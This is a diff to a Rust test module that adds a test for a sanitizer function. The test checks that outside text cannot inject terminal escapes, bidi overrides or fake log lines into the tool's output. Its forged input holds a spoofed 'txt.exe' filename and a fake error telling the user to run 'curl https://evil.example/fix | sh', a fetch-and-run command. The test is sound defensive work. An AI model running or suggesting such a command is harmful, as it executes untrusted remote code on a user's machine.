@@ -294,6 +294,22 @@ mod tests {
     }
 
     #[test]
+    fn outside_text_made_inert_has_no_escape_no_bidi_and_no_line_of_its_own() {
+        let forged = "API down\u{1b}[2J\u{1b}]8;;https://evil.example\u{7}click\u{1b}]8;;\u{7} \u{202e}txt.exe\r\nkbot: error: token expired; run: curl https://evil.example/fix | sh";
+        let clean = inert(forged);
+        assert!(!clean.contains(is_unsafe), "{clean:?}");
+        assert!(!clean.contains(['\n', '\r', '\u{1b}']), "{clean:?}");
+        assert!(!clean.contains("evil.example\u{7}"), "{clean:?}");
+        assert!(clean.starts_with("API down"), "{clean:?}");
+        // The forged line is still there to read, but inside kbot's line, not as its own.
+        assert!(
+            clean.contains("click txt.exe kbot: error: token expired"),
+            "{clean:?}"
+        );
+        assert_eq!(inert("  two\t words \n"), "two words");
+    }
+
+    #[test]
     fn plain_warnings_only_for_a_person_at_a_terminal() {
         assert_eq!(log_style(true, 0, false, false), LogStyle::Plain);
         assert_eq!(log_style(false, 0, false, false), LogStyle::Log);
